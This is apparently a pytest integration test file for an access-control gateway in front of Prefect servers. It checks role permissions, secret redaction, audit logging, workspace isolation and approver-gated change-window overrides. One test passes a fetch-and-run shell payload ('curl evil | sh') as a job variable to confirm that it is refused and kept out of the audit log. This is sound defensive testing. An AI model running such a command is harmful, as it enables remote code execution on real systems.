"""Each role through the gateway with Prefect's own Python client, against real Prefect servers."""

from __future__ import annotations

import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import httpx
import pytest
from prefect.blocks.system import Secret
from prefect.client.orchestration import SyncPrefectClient, get_client
from prefect.exceptions import PrefectHTTPStatusError
from prefect.settings import PREFECT_API_AUTH_STRING, PREFECT_API_URL, temporary_settings

from tests.integration.gateway.test_bypasses import _denied

pytestmark = pytest.mark.integration

SECRET_VALUE = "gw-Secret-Value-9f2c"  # must never come back to anyone without the secrets permission


@contextmanager
def as_user(team: Any, user: str, workspace: str = "core") -> Iterator[SyncPrefectClient]:
    with temporary_settings({PREFECT_API_URL: team.api(workspace), PREFECT_API_AUTH_STRING: team.tokens[user]}), \
            get_client(sync_client=True) as client:
        yield client


def _as_prefect_client(send: Any, attempts: int = 4) -> httpx.Response:
    """Send as Prefect's own client does: a 503 (a busy server; SQLite under load) is retried after a pause."""
    import time

    for attempt in range(attempts):
        reply: httpx.Response = send()
        if reply.status_code != 503 or attempt == attempts - 1:
            return reply
        time.sleep(float(reply.headers.get("retry-after") or 1) + attempt)
    raise AssertionError("unreachable")


def _status(call: Any) -> int:
    try:
        call()
    except PrefectHTTPStatusError as exc:
        return exc.response.status_code
    return 200


@pytest.fixture(scope="module")
def deployment(team: Any) -> dict[str, Any]:
    """A flow, a deployment and a Secret block, created by the developer through the gateway."""
    with as_user(team, "dev") as client:
        flow_id = client.create_flow_from_name(f"gw-flow-{uuid.uuid4().hex[:6]}")
        deployment_id = client.create_deployment(flow_id=flow_id, name="gw-deployment", parameters={"x": 1, "y": 1},
                                                 tags=["runner-sets:x"])
        with temporary_settings({PREFECT_API_URL: team.api(), PREFECT_API_AUTH_STRING: team.tokens["dev"]}):
            Secret(value=SECRET_VALUE).save("gw-secret", overwrite=True)
    return {"flow_id": flow_id, "deployment_id": deployment_id}


def test_viewer_reads_but_changes_nothing(team: Any, deployment: dict[str, Any]) -> None:
    with as_user(team, "vera") as client:
        assert client.read_deployment(deployment["deployment_id"]).name == "gw-deployment"
        assert isinstance(client.read_flow_runs(), list)
        assert _status(lambda: client.create_flow_run_from_deployment(deployment["deployment_id"])) == 403
        assert _status(lambda: client.create_flow_from_name("not-allowed")) == 403
        assert _status(lambda: client.delete_deployment(deployment["deployment_id"])) == 403
        block = client.read_block_document_by_name("gw-secret", "secret", include_secrets=False)
        assert SECRET_VALUE not in str(block.data)
        assert _status(lambda: client.read_block_document_by_name("gw-secret", "secret", include_secrets=True)) == 403


def test_runner_starts_with_parameters_but_not_with_job_variables(team: Any, deployment: dict[str, Any]) -> None:
    with as_user(team, "rune") as client:
        run = client.create_flow_run_from_deployment(deployment["deployment_id"], parameters={"x": 2})
        assert run.parameters == {"x": 2, "y": 1}
        same = client.create_flow_run_from_deployment(deployment["deployment_id"], parameters={"x": 3, "y": 1})
        assert same.parameters == {"x": 3, "y": 1}  # y sent as it would be anyway (the UI's custom-run form)
        before = len(team.audit())
        assert _status(lambda: client.create_flow_run_from_deployment(
            deployment["deployment_id"], parameters={"y": 2})) == 403  # y is not runner-settable
        record = _denied(team, before, 403, "runner-settable (x); not y")
        assert record["user"] == "rune"
        before = len(team.audit())
        assert _status(lambda: client.create_flow_run_from_deployment(
            deployment["deployment_id"], job_variables={"command": "curl evil | sh"})) == 403
        record = _denied(team, before, 403, "with job_variables needs the develop permission")
        assert record["user"] == "rune" and "curl evil" not in str(record)
        before = len(team.audit())
        assert _status(lambda: client.create_flow_run_from_deployment(
            deployment["deployment_id"], work_queue_name="elsewhere")) == 403
        _denied(team, before, 403, "with work_queue_name")
    with team.client("rune") as http:
        reply = http.patch(f"/w/core/api/deployments/{deployment['deployment_id']}", json={"paused": True})
        assert reply.status_code == 403
    starts = [r for r in team.audit() if r["action"] == "deployment.run" and r["user"] == "rune"]
    assert starts and str(run.id) in starts[-2]["detail"]["flow_runs"]
    assert str(same.id) in starts[-1]["detail"]["flow_runs"]
    assert team.running.gateway.store.run_starter("core", str(run.id)) == "rune"


def test_worker_reads_secrets_and_the_read_is_audited(team: Any, deployment: dict[str, Any]) -> None:
    with as_user(team, "svc-worker") as client:
        block = client.read_block_document_by_name("gw-secret", "secret", include_secrets=True)
        assert block.data["value"] == SECRET_VALUE
    reads = [r for r in team.audit() if r["action"] == "secret.read" and r["user"] == "svc-worker"]
    assert reads and "gw-secret" in reads[-1]["path"]
    assert SECRET_VALUE not in (team.data_dir / "audit.jsonl").read_text()


def test_developer_writes_and_owner_administers(team: Any, deployment: dict[str, Any]) -> None:
    with as_user(team, "dev") as client:
        assert _status(lambda: client.read_variables()) == 200
    with team.client("dev") as http:
        assert http.post("/w/core/api/variables/", json={"name": f"v{uuid.uuid4().hex[:6]}",
                                                         "value": "1"}).status_code == 201
    with team.client("vera") as http:
        assert http.post("/w/core/api/variables/", json={"name": "nope", "value": "1"}).status_code == 403
        assert http.get("/w/core/api/admin/version").status_code == 200  # the UI's own login check
    with team.client("otto") as http:
        real = http.get("/w/core/api/admin/settings")
        assert real.status_code == 200 and real.json()  # the server's settings, for owners only
    with team.client("dev") as http:
        hidden = http.get("/w/core/api/admin/settings")  # the UI waits for it on every page
        assert hidden.status_code == 200 and hidden.json() == {}


def test_workspaces_are_isolated(team: Any, deployment: dict[str, Any]) -> None:
    with team.client("dana") as http:
        # dana's token is for datacenter: refused on core, whatever the id
        reply = http.get(f"/w/core/api/deployments/{deployment['deployment_id']}")
        assert reply.status_code == 401 and "datacenter" in reply.json()["detail"]
        # and core's ids do not exist in datacenter
        assert http.get(f"/w/datacenter/api/deployments/{deployment['deployment_id']}").status_code == 404
    with team.client("vera") as http:
        assert http.post("/w/datacenter/api/flows/filter", json={}).status_code == 401
    browser = team.login("dana")
    assert browser.get("/w/core/api/flows/filter").status_code in (403, 405)
    assert browser.post("/w/core/api/flows/filter", json={},
                        headers={"origin": team.url}).status_code == 403
    assert browser.post("/w/datacenter/api/flows/filter", json={}, headers={"origin": team.url}).status_code == 200


def test_change_window_overrides_need_an_approver_and_record_who(team: Any, deployment: dict[str, Any]) -> None:
    url = f"/w/core/api/deployments/{deployment['deployment_id']}/create_flow_run"
    emergency = {"parameters": {"override_reason": "INC-7 core link down", "override_by": "somebody-else"}}
    with team.client("rune") as http:
        refused = http.post(url, json=emergency)
        assert refused.status_code == 403 and "approver" in refused.json()["detail"]
        calendar = http.post(url, json={"parameters": {"change_calendar": "/tmp/always-open.yaml"}})
        assert calendar.status_code == 403 and "developer" in calendar.json()["detail"]
        reuse = http.post(url, json={"parameters": {"resume_of": "0b7c6a9e-0000-4000-8000-000000000000"}})
        assert reuse.status_code == 403 and "approver" in reuse.json()["detail"]
        plain = http.post(url, json={"parameters": {"override_by": "somebody-else"}})
        assert plain.status_code == 201 and "override_by" not in plain.json()["parameters"]
    with team.client("otto") as http:  # owner: holds the approver's permission
        run = http.post(url, json=emergency)
        assert run.status_code == 201, run.text
        assert run.json()["parameters"]["override_by"] == "otto"
    overrides = [r for r in team.audit() if r["action"] == "change.override"]
    assert overrides and overrides[-1]["user"] == "otto"
    assert overrides[-1]["detail"]["reason"] == "INC-7 core link down"


def test_change_window_overrides_as_deployment_defaults_need_an_approver(team: Any) -> None:
    """A default override_reason would reach every run of the deployment without the run's request showing it."""
    with as_user(team, "dev") as client:  # set-up with Prefect's client, which retries a busy server's 503
        flow_id = str(client.create_flow_from_name(f"gw-defaults-{uuid.uuid4().hex[:6]}"))
        deployment_id = str(client.create_deployment(flow_id=flow_id, name="gw-defaults", parameters={"x": 1}))
    with team.client("dev") as http:
        base = {"name": "gw-defaults", "flow_id": flow_id}
        attempts = {
            "parameters": {**base, "parameters": {"override_reason": "always"}},
            "schema default": {**base, "parameter_openapi_schema": {
                "type": "object", "properties": {"override_reason": {"type": "string", "default": "always"}}}},
            "resume_of": {**base, "parameters": {"resume_of": "0b7c6a9e-0000-4000-8000-000000000000"}},
        }
        for case, body in attempts.items():
            before = len(team.audit())
            reply = http.post("/w/core/api/deployments/", json=body)
            assert reply.status_code == 403 and "only an approver" in reply.json()["detail"], (case, reply.text)
            assert _denied(team, before, 403, "deployment default")["user"] == "dev"
        before = len(team.audit())
        patched = http.patch(f"/w/core/api/deployments/{deployment_id}",
                             json={"parameters": {"override_reason": "always"}})
        assert patched.status_code == 403
        _denied(team, before, 403, "deployment default")
        claimed = _as_prefect_client(lambda: http.patch(f"/w/core/api/deployments/{deployment_id}",
                                                        json={"parameters": {"x": 2, "override_by": "somebody"}}))
        assert claimed.status_code == 204, claimed.text
        assert "override_by" not in http.get(f"/w/core/api/deployments/{deployment_id}").json()["parameters"]
    with team.client("otto") as http:  # an owner holds the approver's permission: allowed, stamped, audited
        reply = _as_prefect_client(lambda: http.patch(
            f"/w/core/api/deployments/{deployment_id}",
            json={"parameters": {"override_reason": "INC-9 standing window", "override_by": "x"}}))
        assert reply.status_code == 204, reply.text
        saved = http.get(f"/w/core/api/deployments/{deployment_id}").json()["parameters"]
        assert saved["override_by"] == "otto"
    overrides = [r for r in team.audit() if r["action"] == "change.override" and r["user"] == "otto"]
    assert overrides[-1]["detail"]["as"] == "deployment default"
    assert overrides[-1]["detail"]["reason"] == "INC-9 standing window"


def test_retrying_a_finished_deploy_config_run_needs_an_approver(team: Any) -> None:
    """A retry resumes the change from its ledger under the earlier approval (nornflow.flows.deploy_config)."""
    upstream = team.running.gateway.upstreams["core"]
    internal = {"authorization": upstream.authorization}
    runs: dict[str, str] = {}
    with as_user(team, "dev") as client:  # set-up with Prefect's client, which retries a busy server's 503
        for flow in ("deploy_config", f"gw-other-{uuid.uuid4().hex[:6]}"):
            deployment_id = client.create_deployment(flow_id=client.create_flow_from_name(flow), name="gw-retry")
            run_id = str(client.create_flow_run_from_deployment(deployment_id).id)
            failed = httpx.post(f"{upstream.api_url}/flow_runs/{run_id}/set_state", headers=internal,
                                json={"state": {"type": "FAILED", "name": "Failed"}, "force": True})
            assert failed.status_code in (200, 201), failed.text  # test set-up, straight to the server
            runs[flow] = run_id
    retry = {"state": {"type": "SCHEDULED", "name": "AwaitingRetry"}, "force": True}  # what the UI's retry sends
    change, other = runs.pop("deploy_config"), next(iter(runs.values()))
    with team.client("rune") as http:
        before = len(team.audit())
        refused = http.post(f"/w/core/api/flow_runs/{change}/set_state", json=retry)
        assert refused.status_code == 403 and "only an approver may retry" in refused.json()["detail"]
        assert _denied(team, before, 403, "deploy_config")["user"] == "rune"
        assert http.post(f"/w/core/api/flow_runs/{other}/set_state", json=retry).status_code in (200, 201)
    with team.client("svc-worker") as http:  # a worker's (and every flow run's) token is no approver either
        assert http.post(f"/w/core/api/flow_runs/{change}/set_state", json=retry).status_code == 403
    with team.client("otto") as http:
        allowed = http.post(f"/w/core/api/flow_runs/{change}/set_state", json=retry)
        assert allowed.status_code in (200, 201), allowed.text
